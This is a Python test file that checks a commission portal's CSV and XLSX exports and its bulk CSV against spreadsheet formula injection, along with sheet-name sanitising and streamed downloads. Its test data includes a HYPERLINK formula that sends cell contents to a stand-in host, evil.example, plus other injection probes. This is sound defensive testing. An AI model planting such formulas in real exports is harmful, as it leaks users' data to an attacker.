"""Rule 7: the commission's CSV and XLSX exports and the public bulk CSV are safe to open in a spreadsheet."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from portal.services.exports import render
from publisher.bulk import csv_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"查看")'


def test_the_csv_export_neutralises_formulas_and_keeps_numbers():
    data = render("csv", "统计", ["机构", "数量"], [[EVIL, 12], ["@SUM(A1)", -3]])
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "12"] and rows[2] == ["'@SUM(A1)", "-3"]


def test_the_xlsx_export_has_no_formula_and_numeric_cells_stay_numeric():
    book = load_workbook(io.BytesIO(render("xlsx", "统计", ["机构", "数量"], [[EVIL, 12], ["+1", 2.5]])))
    sheet = book.active
    assert sheet["A2"].value == "'" + EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'+1" and sheet["B3"].value == 2.5
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_public_bulk_csv_neutralises_a_hostile_name():
    row = csv_row({"identifier": "D110105202600000011", "name": EVIL, "institutions": [{"name": "-cmd"}], "beds": 120})
    assert row["name"] == "'" + EVIL and row["institutions"] == "'-cmd" and row["beds"] == "120"


def test_the_xlsx_keeps_text_numbers_and_blanks_as_a_spreadsheet_program_reads_them():
    from datetime import date

    rows = [["  缩进的名称", None, True, date(2026, 12, 3), float("inf")], ["换\x01行\x1f", 0, False, "", -1.25]]
    book = load_workbook(io.BytesIO(render("xlsx", "医师/名册[2026]:全国*?", ["甲", "乙", "丙", "丁", "戊"], rows)))
    sheet = book.active
    assert sheet.title == "医师名册2026全国"  # the characters Excel refuses in a sheet name left out
    assert [cell.font.b for cell in sheet[1]] == [True] * 5 and not sheet["A2"].font.b
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [
        ("  缩进的名称", None, True, "2026-12-03", "inf"),
        ("换行", 0, False, None, -1.25),  # characters XML cannot carry left out
    ]


def test_a_large_xlsx_is_sent_while_its_rows_are_still_being_read():
    from portal.services.exports import xlsx_chunks

    total, read = 60_000, [0]

    def rows():
        for number in range(total):
            read[0] += 1
            yield [f"医师{number}", number, "北京市东城区"]

    sent, read_when_sending = 0, []
    for chunk in xlsx_chunks("名册", ["姓名", "序号", "行政区划"], rows()):
        sent += len(chunk)
        read_when_sending.append(read[0])
    assert read[0] == total
    assert len(read_when_sending) > 3 and read_when_sending[1] < total / 2  # the download started early
    book = load_workbook(io.BytesIO(b"".join(xlsx_chunks("名册", ["姓名"], ([f"医师{n}"] for n in range(3))))))
    assert [row[0] for row in book.active.iter_rows(values_only=True)] == ["姓名", "医师0", "医师1", "医师2"]
